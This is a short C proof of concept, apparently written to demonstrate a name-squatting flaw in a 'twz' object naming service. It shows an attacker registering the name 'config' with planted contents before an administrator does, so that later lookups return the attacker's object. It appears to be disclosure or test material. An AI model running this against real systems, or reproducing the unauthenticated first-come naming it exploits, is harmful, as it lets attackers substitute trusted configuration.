/* Run 1 (attacker): take the name "config" before the administrator binds it with `twzemu store put --name`.
 * Run 2 (anyone): name_get("config") answers the attacker's object, not the administrator's. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <twz/object.h>
int main(int argc, char **argv)
{
    twz_objid id;
    if (argc > 1) {
        if (twz_name_get("config", &id)) { printf("get: %s\n", strerror(errno)); return 1; }
        printf("name_get(config) = %#018lx%016lx\n", id.hi, id.lo);
        char *b = twz_object_map(&id, TWZ_MAP_READ);
        printf("map: %s\n", b ? b + TWZ_OBJ_DATA : strerror(errno));
        return 0;
    }
    twz_object_create(TWZ_OBJ_PERSISTENT, &id);
    char *b = twz_object_map(&id, TWZ_MAP_READ | TWZ_MAP_WRITE);
    strcpy(b + TWZ_OBJ_DATA, "attacker's config");
    printf("put obj:config -> %d (id %#018lx%016lx)\n", twz_name_put("config", &id), id.hi, id.lo);
    return 0;
}
